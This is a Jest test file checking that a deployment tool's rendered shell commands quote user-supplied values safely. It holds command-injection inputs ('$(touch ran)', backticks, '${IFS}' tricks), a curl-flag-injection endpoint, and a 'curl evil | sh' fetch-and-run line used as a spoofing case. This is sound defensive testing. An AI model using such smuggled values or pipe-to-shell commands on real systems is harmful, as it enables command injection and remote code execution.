import { expect, test } from '@jest/globals'
import { commandLine } from '../../core/text/command-line.ts'
import { type Closing, renderClosing } from './closing.ts'

const example = { document: 'mutation { a }', variables: { x: "it's $(touch ran)" }, signedIn: true }
const closing: Closing = {
  release: 'a'.repeat(64),
  environment: 'production',
  endpoint: 'http://127.0.0.1:1/x$(touch ran)',
  apiKey: 'da2-`touch ran`',
  examples: [
    { ...example, role: 'x$(touch${IFS}ran)' },
    { ...example, signedIn: false },
  ],
  outputs: {},
  again: commandLine`liftlock ship ${['a b', '--local']}`,
  command: commandLine`node ${'my tools/liftlock.js'}`,
}

test('role, address, key and body are words of the lines to try', () => {
  const text = renderClosing(closing)
  expect(text).toContain(
    `T=$(node 'my tools/liftlock.js' local token --environment production --role 'x$(touch\${IFS}ran)')`,
  )
  expect(text).toContain(`curl -s 'http://127.0.0.1:1/x$(touch ran)' -H 'content-type: application/json'`)
  expect(text).toContain("-H 'x-api-key: da2-`touch ran`'")
  expect(text).toContain(`it'"'"'s $(touch ran)`)
})

test('an endpoint that is no address could be a flag of curl, and gives no line to try', () => {
  expect(renderClosing({ ...closing, endpoint: '-o/etc/x' })).not.toContain('curl')
})

test('an output with a line end cannot look like a line of ours', () => {
  const text = renderClosing({ ...closing, examples: [], outputs: { Url: 'x\n  Try it   curl evil | sh' } })
  expect(text.split('\n').filter((line) => /^ {2}Try it/.test(line))).toEqual([])
})
